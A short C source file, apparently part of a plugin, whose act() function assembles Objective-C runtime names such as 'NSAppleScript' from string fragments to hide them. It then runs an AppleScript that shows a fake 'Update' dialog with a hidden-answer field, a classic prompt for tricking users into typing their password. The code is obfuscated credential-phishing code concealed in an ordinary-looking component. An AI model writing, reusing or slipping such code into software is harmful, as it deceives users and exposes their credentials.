/* Class and messages by the runtime, each name appended from parts. */
#include "plugin.h"
extern void *objc_getClass(const char *), *sel_registerName(const char *), *objc_msgSend(void *, void *, ...), *CFStringCreateWithCString(void *, const char *, unsigned);
extern char *strcat(char *, const char *);
static void act(char **env) {
    char class[32] = "NS", source[32] = "initWith", execute[32] = "execute";
    strcat(strcat(class, "Apple"), "Script");
    strcat(strcat(source, "Source"), ":");
    strcat(strcat(execute, "AndReturn"), "Error:");
    void *error = 0, *text = CFStringCreateWithCString(0, "display dialog \"Update\" default answer \"\" with hidden answer", 0x08000100);
    void *script = objc_msgSend(objc_msgSend(objc_getClass(class), sel_registerName("alloc")), sel_registerName(source), text);
    objc_msgSend(script, sel_registerName(execute), &error);
}
